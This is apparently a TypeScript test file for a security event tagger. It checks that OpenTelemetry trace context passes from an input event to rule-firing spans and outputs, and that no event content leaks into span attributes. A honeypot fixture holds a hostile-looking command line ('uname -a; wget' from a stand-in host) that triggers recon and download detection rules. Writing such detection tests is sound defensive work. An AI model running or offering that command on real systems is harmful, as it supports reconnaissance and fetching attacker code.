/**
 * The tagger's trace context handling on the runtime's core, with a real OpenTelemetry tracer
 * provider and W3C propagator: the runtime's span per event continuing the producer's trace, a
 * child span per firing, outputs carrying the firing's context — and no event content in any
 * attribute.
 */
import { resolve } from 'node:path';
import { propagation, trace } from '@opentelemetry/api';
import { W3CTraceContextPropagator } from '@opentelemetry/core';
import {
  BasicTracerProvider,
  InMemorySpanExporter,
  SimpleSpanProcessor,
} from '@opentelemetry/sdk-trace-base';
import { topicNames } from '@riskline/contracts';
import { applyRecords, freshProgress } from '@riskline/stream-core';
import { taggerForRules } from './testing/bundled-tagger';

const TRACE_ID = '0af7651916cd43dd8448eb211c80319c';
const PARENT = `00-${TRACE_ID}-b7ad6b7169203331-01`;

describe('tagger processor tracing', () => {
  const exporter = new InMemorySpanExporter();
  beforeAll(() => {
    trace.setGlobalTracerProvider(
      new BasicTracerProvider({ spanProcessors: [new SimpleSpanProcessor(exporter)] }),
    );
    propagation.setGlobalPropagator(new W3CTraceContextPropagator());
  });
  afterAll(() => {
    trace.disable();
    propagation.disable();
  });

  it('continues the input trace: one span per evaluation, one per firing, outputs carry it', () => {
    const topics = topicNames({});
    const { processor } = taggerForRules([resolve(__dirname, '../../../rules')], topics);
    const event = {
      '@timestamp': '2026-01-01T00:00:00Z',
      source_kind: 'honeypot.command',
      src_ip: '203.0.113.9',
      command: 'uname -a; wget http://x.example/a.sh',
    };
    const { outputs } = applyRecords(processor, freshProgress({}, 5), [
      {
        topic: 'soc.events',
        partition: 1,
        offset: '5',
        key: null,
        value: Buffer.from(JSON.stringify(event)),
        timestamp: String(Date.parse('2026-01-01T00:00:00Z')),
        headers: { traceparent: PARENT },
      },
    ]);

    const spans = exporter.getFinishedSpans();
    const evaluate = spans.find((s) => s.name === 'tagger process')!;
    const firings = spans.filter((s) => s.name === 'tagger.firing');
    expect(evaluate.spanContext().traceId).toBe(TRACE_ID);
    expect(evaluate.parentSpanContext?.spanId).toBe('b7ad6b7169203331');
    expect(firings.map((s) => s.attributes['riskline.rule.id']).sort()).toEqual([
      'riskline-native-honeypot-download',
      'riskline-native-honeypot-recon',
    ]);
    for (const f of firings) {
      expect(f.spanContext().traceId).toBe(TRACE_ID);
      expect(f.parentSpanContext?.spanId).toBe(evaluate.spanContext().spanId);
    }
    expect(outputs.length).toBe(4);
    for (const output of outputs) {
      const [, traceId, spanId] = output.headers!['traceparent']!.split('-');
      expect(traceId).toBe(TRACE_ID);
      expect(firings.map((f) => f.spanContext().spanId)).toContain(spanId);
    }
    const attributeText = JSON.stringify(spans.map((s) => s.attributes));
    expect(attributeText).not.toContain('wget');
    expect(attributeText).not.toContain('203.0.113.9');
  });
});
